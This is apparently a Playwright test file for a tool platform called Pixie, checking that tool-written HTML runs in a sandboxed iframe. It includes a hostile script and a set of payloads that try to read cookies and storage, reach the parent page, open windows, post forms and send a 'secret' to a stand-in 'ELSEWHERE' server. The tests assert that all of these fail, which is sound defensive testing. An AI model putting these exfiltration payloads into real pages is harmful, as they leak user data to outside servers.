"""P6 on Pixie's own pages: what a tool wrote as HTML is shown in a frame, where its scripts run and are nobody's.

Pages of a tool try here what a hostile one would: to ask the API, to reach the page round them, to lead it elsewhere, to
open windows, to send forms, to keep something, and to tell another server what they saw.
"""

import json
import socket
import threading
from contextlib import contextmanager, suppress

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect

from tests.reliability.kept import keep
from tests.server.live_pixie import add_tool

TRIES = """
const done = {};
const note = async (name, work) => {
  try { done[name] = String(await work()); } catch (error) { done[name] = error.name; }
};
const inFrame = (attributes) => new Promise((resolve) => {
  const frame = Object.assign(document.createElement('iframe'), attributes);
  frame.addEventListener('load', () => {
    try { resolve(frame.contentDocument ? 'seen' : 'empty'); } catch { resolve('SecurityError'); }
  });
  document.body.append(frame);
  setTimeout(() => resolve('nothing'), 1000);
});
const send = (attributes) => {
  const form = Object.assign(document.createElement('form'), { method: 'post', ...attributes });
  document.body.append(form);
  form.submit();
  return 'tried';
};
(async () => {
  await note('origin', () => self.origin);
  await note('cookie', () => document.cookie);
  await note('storage', () => localStorage.length);
  await note('database', () => indexedDB.open('x'));
  await note('parent', () => parent.document.title);
  await note('top', () => top.document.title);
  await note('top location', () => { top.location = 'ELSEWHERE/top'; return 'tried'; });
  await note('opened', () => window.open('/'));
  await note('opened elsewhere', () => window.open('ELSEWHERE/window'));
  await note('worker', () => navigator.serviceWorker && navigator.serviceWorker.register('/x.js'));
  await note('shared worker', () => new SharedWorker('/static/js/main.js') && 'tried');
  await note('ask', () => fetch('/api/tools').then((answer) => answer.status));
  await note('start', () => fetch('/api/tools/adder/runs', { method: 'POST', mode: 'no-cors', body: '{}' }));
  await note('beacon', () => navigator.sendBeacon('/tool/adder/run', 'a=1'));
  await note('tell', () => fetch('ELSEWHERE/fetch', { mode: 'no-cors' }));
  await note('socket', () => new Promise((resolve) => {
    const ws = new WebSocket('ELSEWHERE/socket'.replace('http', 'ws'));
    ws.onerror = () => resolve('error');
    ws.onopen = () => resolve('open');
  }));
  await note('events', () => new Promise((resolve) => {
    const source = new EventSource('/api/events');
    source.onerror = () => resolve('error');
    source.onopen = () => resolve('open');
  }));
  await note('module', () => import('/static/js/page.js'));
  await note('form', () => send({ action: '/tool/adder/run' }));
  await note('form to the top', () => send({ action: '/tool/adder/run', target: '_top' }));
  await note('form elsewhere', () => send({ action: 'ELSEWHERE/form', target: '_blank' }));
  await note('frame', () => inFrame({ src: '/' }));
  await note('frame elsewhere', () => inFrame({ src: 'ELSEWHERE/frame' }));
  await note('frame of its own', () => inFrame({ srcdoc: '<p>hello' }));
  for (const [tag, attributes] of [
    ['img', { src: 'ELSEWHERE/img' }], ['script', { src: 'ELSEWHERE/script' }],
    ['link', { rel: 'stylesheet', href: 'ELSEWHERE/style' }], ['link', { rel: 'prefetch', href: 'ELSEWHERE/prefetch' }],
    ['link', { rel: 'preload', as: 'image', href: 'ELSEWHERE/preload' }], ['video', { src: 'ELSEWHERE/video' }],
    ['object', { data: 'ELSEWHERE/object' }], ['embed', { src: 'ELSEWHERE/embed' }],
  ]) document.body.append(Object.assign(document.createElement(tag), attributes));
  const link = Object.assign(document.createElement('a'), { href: 'ELSEWHERE/link', target: '_top' });
  document.body.append(link);
  link.click();
  await note('alert', () => alert('hello'));
  document.getElementById('said').textContent = JSON.stringify(done);
})();
"""

HOSTILE = (
    "<!doctype html><meta charset=utf-8><title>hostile</title><body>shown<pre id=said></pre><script>TRIES</script>"
)

REFUSED = {"SecurityError", "TypeError", "null", "undefined", "error", "false", "nothing", "empty", "NotAllowedError"}


@contextmanager
def elsewhere():
    """Another server on this machine, and what was said to it.

    Chromium opens a connection for a navigation before it asks whether that is allowed, and closes it again without a
    byte: that isn't among it.
    """
    heard = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen():
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(1)
                    with suppress(TimeoutError, ConnectionError):
                        if said := connection.recv(200):
                            heard.append(said)

        threading.Thread(target=listen, daemon=True).start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", heard


@pytest.fixture
def visit(chromium, live):
    """A page of a fresh profile."""
    context = chromium.new_context(base_url=live.url, viewport={"width": 1440, "height": 900})
    yield context.new_page()
    context.close()


def kept_page(live, source):
    """A tool's page, kept as a file of a run: its number."""
    return keep(live.pixie, {"page.html": source.encode()})[1]["page.html"]


def settled(page):
    """What the tries in the frame came to."""
    said = page.frame_locator("iframe.made-page").locator("#said")
    expect(said).to_contain_text("alert")
    return json.loads(said.inner_text())


@pytest.mark.case("P6.framed")
def test_a_hostile_page_is_shown_and_gets_nowhere(visit, live):
    """Its words are there; its scripts run, without origin, storage, parent, windows, forms or any way to the network."""
    with elsewhere() as (address, heard):
        number = kept_page(live, HOSTILE.replace("TRIES", TRIES).replace("ELSEWHERE", address))
        before = len(live.lint.answers)
        opened = []

        def noted(what):
            opened.append(what)

        visit.context.on("page", noted)
        visit.on("dialog", noted)
        visit.goto(f"/library/{number}")
        said = settled(visit)
        assert visit.frame_locator("iframe.made-page").locator("body").inner_text().startswith("shown")
        assert said.pop("origin") == "null"
        # These say nothing of whether they were done: what came of them does, below.
        tried = ("beacon", "form", "form to the top", "form elsewhere", "frame of its own", "alert")
        for name in tried:
            said.pop(name)
        # A navigation of the top either throws or is left undone: where the page is says which.
        assert said.pop("top location") in REFUSED | {"tried"}
        assert set(said.values()) <= REFUSED, said
        visit.wait_for_load_state("networkidle")
        assert visit.url == f"{live.url}/library/{number}"
        assert visit.title().startswith("page.html")
        assert heard == []
    assert opened == []
    answered = live.lint.answers[before:]
    assert [each for each in answered if each[0] != "GET"] == []
    assert [each for each in answered if each[1].startswith("/api/") and "/artefacts/" not in each[1]] == []


@pytest.mark.parametrize(
    "way",
    [
        "<script>location = 'ELSEWHERE/?told=secret'</script>",
        "<script>location.replace('ELSEWHERE/')</script>",
        "<meta http-equiv=refresh content='0; url=ELSEWHERE/'>",
        "<a id=a href='ELSEWHERE/'>x</a><script>a.click()</script>",
        "<a id=a href='ELSEWHERE/' ping='ELSEWHERE/ping' download>x</a><script>a.click()</script>",
        "<form id=f action='ELSEWHERE/'><input name=told value=secret></form><script>f.submit()</script>",
        "<link rel=preconnect href='ELSEWHERE'><link rel=dns-prefetch href='ELSEWHERE'>",
        "<style>@import 'ELSEWHERE/a.css'; body { background: url(ELSEWHERE/b.png); cursor: url(ELSEWHERE/c.png), auto }</style>",
        '<script type=\'speculationrules\'>{"prefetch": [{"source": "list", "urls": ["ELSEWHERE/"]}]}</script>',
    ],
    ids=["location", "replace", "refresh", "link", "download", "form", "hints", "style", "speculation"],
)
def test_a_page_cannot_lead_its_own_frame_elsewhere(visit, live, way):
    """By which it could tell another server what it saw: the page round it allows no other server in its frames."""
    with elsewhere() as (address, heard):
        number = kept_page(live, f"<!doctype html><body>shown{way}".replace("ELSEWHERE", address))
        visit.goto(f"/library/{number}")
        visit.wait_for_load_state("networkidle")
        # A round trip through the browser after everything in the frame has been begun.
        visit.evaluate("new Promise((resolve) => setTimeout(resolve, 300))")
        assert heard == []
    assert visit.url == f"{live.url}/library/{number}"


def test_a_frame_that_leads_to_pixie_itself_gets_nothing(visit, live):
    """The frame is nobody's: what it asks of Pixie is refused."""
    number = kept_page(live, "<!doctype html><body>shown<script>location = '/api/tools'</script>")
    before = len(live.lint.answers)
    visit.goto(f"/library/{number}")
    visit.wait_for_load_state("networkidle")
    assert {each[2] for each in live.lint.answers[before:] if each[1] == "/api/tools"} <= {403}


@pytest.mark.case("P6.direct")
def test_a_page_that_is_opened_by_itself_is_a_download(visit, live):
    """Nowhere is it a page of its own."""
    number = kept_page(live, "<!doctype html><body>shown")
    visit.goto("/library")
    with visit.expect_download() as begun:
        visit.evaluate("path => { location = path }", f"/api/artefacts/{number}/content")
    assert begun.value.suggested_filename == "page.html"


def test_a_harmless_page_works(visit, live):
    """Its own scripts, styles and data: pictures; and the page round it breaks no policy of its own."""
    source = """<!doctype html><style>p { color: rgb(0, 128, 0) }</style><p id=p>before</p>
      <img id=i src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>">
      <script>p.textContent = 'drawn by its script'</script>"""
    number = kept_page(live, source)
    visit.goto(f"/library/{number}")
    frame = visit.frame_locator("iframe.made-page")
    expect(frame.locator("#p")).to_have_text("drawn by its script")
    assert frame.locator("#p").evaluate("e => getComputedStyle(e).color") == "rgb(0, 128, 0)"
    assert frame.locator("#i").evaluate("e => e.decode().then(() => e.naturalWidth)") == 9


REPORTER = '''\
from pixie_tool_sdk import Tool, outputs

tool = Tool()


PAGE = "<!doctype html><title>x</title><p id=p>before</p><script>p.textContent = self.origin</script>"


@tool.run
def report(words):
    """Write a page."""
    return {"page": outputs.file("report.html", PAGE.encode(), "text/html")}


tool.serve()
'''


def test_an_output_that_is_a_page_is_framed_on_its_run_and_at_full_size(visit, live):
    """The same frame, with the same rights, wherever the output is shown."""
    if not (live.pixie.settings.tools_dir / "reporter").exists():
        manifest = {"id": "reporter", "name": "Reporter"}
        manifest["inputs"] = [{"key": "words", "type": "text", "label": "Words", "default": ""}]
        manifest["outputs"] = [{"key": "page", "type": "file", "label": "Page"}]
        add_tool(live.pixie.settings.tools_dir, manifest, REPORTER)
    run = live.run("reporter")
    assert run["status"] == "ok", run
    address = f"/tool/reporter/runs/{run['id']}"
    for path in (address, f"{address}/outputs/page"):
        visit.goto(path)
        frame = visit.locator("iframe")
        expect(frame).to_have_attribute("sandbox", "allow-scripts")
        frame.scroll_into_view_if_needed()
        expect(visit.frame_locator("iframe.made-page").locator("#p")).to_have_text("null")
        found = Axe().run(visit).response["violations"]
        assert [(each["id"], [node["html"] for node in each["nodes"]]) for each in found] == []
